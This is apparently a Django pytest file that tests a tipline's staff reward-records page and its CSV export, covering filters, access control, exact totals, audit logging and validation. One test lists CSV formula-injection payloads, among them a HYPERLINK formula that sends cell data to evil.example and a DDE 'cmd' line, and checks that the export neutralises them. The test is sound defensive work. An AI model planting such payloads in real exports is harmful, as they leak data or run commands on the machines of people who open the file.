"""The reward records page and its CSV export: filters narrow the table, nothing
encrypted with a case shows, totals are exact sums of minor units, hostile cells
cannot run as formulas, and every export is on the record."""

import csv
import io
from datetime import date, datetime

import pytest
from django.utils import timezone

from testkit.helpers import make_staff
from tipline.accounts.models import Role
from tipline.audit.models import AuditEvent
from tipline.cases.models import Case
from tipline.profiles.loader import load_profile
from tipline.rewards import services
from tipline.rewards.models import Proposal, Tier
from tipline.rewards.tests.conftest import close_case, key_of

RECORDS = "/staff/rewards/records/"
EXPORT = "/staff/rewards/records/export.csv"
YEAR = timezone.localdate().year

pytestmark = pytest.mark.django_db


def rows_of(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


HEADER = ["kind", "period", "profile", "tier", "currency", "count", "total"]
GRADE_1 = "Material reward, grade 1 (up to CNY 10,000)"


@pytest.fixture
def two_proposals(offer, owner, submit_report):
    """The approved, offered grade-1 reward of ``offer`` (3000.00 CNY) and an
    open grade-2 proposal (20000.00 CNY) on a second case."""
    submit_report({"what_happened": "A drone over the base."})
    second = close_case(Case.objects.order_by("pk").last(), owner)
    services.propose(
        case=second,
        user=owner,
        private_key=key_of(owner),
        tier=services.policy_for("national-security").tiers.get(slug="grade-2"),
        amount=2_000_000,
        justification="Found the operator.",
    )
    return offer


@pytest.mark.parametrize(
    ("query", "shown", "hidden"),
    [
        ({}, ["3000.00 CNY", "20000.00 CNY"], []),
        ({"status": "open"}, ["20000.00 CNY"], ["3000.00 CNY"]),
        ({"status": "approved"}, ["3000.00 CNY"], ["20000.00 CNY"]),
        ({"offer_status": "offered"}, ["3000.00 CNY"], ["20000.00 CNY"]),
        ({"offer_status": "paid"}, [], ["3000.00 CNY", "20000.00 CNY"]),
        ({"tier": "grade-2"}, ["20000.00 CNY"], ["3000.00 CNY"]),
        ({"year": YEAR}, ["3000.00 CNY", "20000.00 CNY"], []),
        ({"year": YEAR - 1}, [], ["3000.00 CNY", "20000.00 CNY"]),
        ({"profile": "whistleblowing"}, [], ["3000.00 CNY", "20000.00 CNY"]),
        ({"profile": "national-security"}, ["3000.00 CNY", "20000.00 CNY"], []),
        # Bad filters are ignored: everything shows.
        ({"tier": "x", "year": "-1"}, ["3000.00 CNY", "20000.00 CNY"], []),
    ],
)
def test_filters_narrow_the_records(
    two_proposals, finance, signed_in, query, shown, hidden
):
    load_profile("whistleblowing")
    services.policy_for("whistleblowing")
    if query.get("tier") == "grade-2":
        query = {"tier": Tier.objects.get(slug="grade-2").pk}
    client = signed_in(finance)

    page = client.get(RECORDS, query).content.decode()

    for amount in shown:
        assert f'<td class="amount" rowspan="1">{amount}</td>' in page
    for amount in hidden:
        assert amount not in page
    if not shown:
        assert "No proposals match." in page


def test_the_records_show_decisions_and_offers_but_no_case_text(
    two_proposals, approver, signed_in, django_assert_max_num_queries
):
    offer = two_proposals
    code = services.accept_offer(offer=offer)
    finance = make_staff("frank", "finance", role=Role.FINANCE)
    services.record_payout(
        user=finance,
        code=code,
        paid_on=timezone.localdate(),
        method="cash",
        reference="R-1",
    )
    client = signed_in(approver)

    with django_assert_max_num_queries(14):
        page = client.get(RECORDS).content.decode()

    assert f"#{offer.case_id}" in page
    assert f"approver, {timezone.localdate():%Y-%m-%d}" in page
    assert '<span class="offer-status">Paid</span>' in page
    assert f"answered {timezone.localdate():%Y-%m-%d}" in page
    assert f"paid {timezone.localdate():%Y-%m-%d}<br>Cash" in page
    assert "Waiting for approval" in page
    for secret in ("gate codes", "drone", "Named the handler.", "Found the operator."):
        assert secret not in page
    assert "Confirmed." not in page


def test_the_records_come_fifty_to_a_page(on_record, administrator, signed_in):
    for _ in range(51):
        on_record("grade-1", 10)
    client = signed_in(administrator)

    first = client.get(RECORDS, {"status": "approved"}).content.decode()
    second = client.get(RECORDS, {"status": "approved", "page": 2}).content.decode()

    assert first.count('<span class="offer-status">') == 50
    assert "Page 1 of 2" in first
    assert "?status=approved&amp;page=2" in first
    assert second.count('<span class="offer-status">') == 1


def test_other_staff_get_a_404_on_the_records_and_the_export(
    offer, owner, outsider, signed_in
):
    for user in (owner, outsider):
        client = signed_in(user)
        assert client.get(RECORDS).status_code == 404
        assert client.get(EXPORT).status_code == 404
    assert not AuditEvent.objects.filter(action="reward.exported").exists()


def test_the_export_sums_minor_units_exactly(on_record, finance, signed_in):
    for day in (3, 14, 28):
        on_record("grade-1", 10, paid_on=date(YEAR, 3, day))  # 0.10 CNY each
    on_record("grade-1", 123_456, paid_on=date(YEAR, 4, 1))
    on_record("grade-2", 1_000_001, paid_on=date(YEAR, 4, 30))
    on_record("grade-1", 99, paid_on=date(YEAR - 1, 12, 31))  # outside the range
    on_record("grade-1", 99)  # accepted, not paid
    client = signed_in(finance)
    query = {"first": f"{YEAR}-01", "last": f"{YEAR}-12", "grouping": "month"}

    by_month = rows_of(client.get(EXPORT, query))
    by_year = rows_of(client.get(EXPORT, {**query, "grouping": "year"}))

    grade_2 = "Material reward, grade 2 (CNY 10,000 to 30,000)"
    assert by_month == [
        HEADER,
        ["payout", f"{YEAR}-03", "national-security", GRADE_1, "CNY", "3", "0.30"],
        ["payout", f"{YEAR}-04", "national-security", GRADE_1, "CNY", "1", "1234.56"],
        ["payout", f"{YEAR}-04", "national-security", grade_2, "CNY", "1", "10000.01"],
    ]
    assert by_year == [
        HEADER,
        ["payout", f"{YEAR}", "national-security", GRADE_1, "CNY", "4", "1234.86"],
        ["payout", f"{YEAR}", "national-security", grade_2, "CNY", "1", "10000.01"],
    ]
    events = AuditEvent.objects.filter(action="reward.exported").order_by("pk")
    assert [(e.actor, e.detail) for e in events] == [
        (finance, {"from": f"{YEAR}-01", "to": f"{YEAR}-12", "by": "month", "rows": 3}),
        (finance, {"from": f"{YEAR}-01", "to": f"{YEAR}-12", "by": "year", "rows": 2}),
    ]


def test_the_export_counts_commendations_accepted_without_an_amount(
    on_record, administrator, signed_in
):
    accepted = datetime(YEAR, 5, 6, 15, tzinfo=timezone.get_current_timezone())
    on_record("commendation", 0, accepted_at=accepted)
    on_record("commendation", 0, accepted_at=accepted)
    client = signed_in(administrator)

    rows = rows_of(client.get(EXPORT, {"first": f"{YEAR}-05", "last": f"{YEAR}-05"}))

    assert rows == [
        HEADER,
        [
            "commendation",
            f"{YEAR}-05",
            "national-security",
            "Certificate of commendation",
            "",
            "2",
            "",
        ],
    ]


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTabbed",
        "\rReturned",
    ],
)
def test_hostile_cells_are_neutralised(on_record, finance, signed_in, hostile):
    tier = Tier.objects.get(policy__profile_slug="national-security", slug="grade-1")
    tier.name = {"en": hostile, "zh-hans": "第一档"}
    tier.save()
    on_record("grade-1", 500, paid_on=date(YEAR, 6, 1))
    client = signed_in(finance)

    rows = rows_of(client.get(EXPORT, {"first": f"{YEAR}-06", "last": f"{YEAR}-06"}))

    assert rows[1][3] == f"'{hostile}"
    assert rows[1][6] == "5.00"


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"first": f"{YEAR}-05", "last": f"{YEAR}-04"}, "before the first month"),
        ({"first": "2010-01", "last": "2020-01"}, "at most ten years"),
        ({"first": f"{YEAR}-13", "last": f"{YEAR}-12"}, "Enter a month as YYYY-MM"),
        ({"first": f"{YEAR}-1", "last": f"{YEAR}-12"}, "Enter a month as YYYY-MM"),
        ({"first": "1999-12", "last": f"{YEAR}-12"}, "between 2000-01 and 2100-12"),
        ({"first": "=1+1", "last": f"{YEAR}-12"}, "Enter a month as YYYY-MM"),
        ({"first": "", "last": f"{YEAR}-12"}, "This field is required."),
        ({"first": "2026-01-01", "last": f"{YEAR}-12"}, "at most 7 characters"),
        (
            {"first": f"{YEAR}-01", "last": f"{YEAR}-12", "grouping": "week"},
            "Select a valid choice.",
        ),
    ],
)
def test_a_bad_export_is_refused_with_a_clear_error(
    offer, finance, signed_in, query, message
):
    client = signed_in(finance)

    response = client.get(EXPORT, {"grouping": "month", **query})

    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert message in response.content.decode()
    assert not AuditEvent.objects.filter(action="reward.exported").exists()


def test_the_export_defaults_to_this_year(offer, finance, signed_in):
    page = signed_in(finance).get(RECORDS).content.decode()

    assert f'value="{YEAR}-01"' in page
    assert f'value="{YEAR}-12"' in page
    assert Proposal.objects.count() == 1
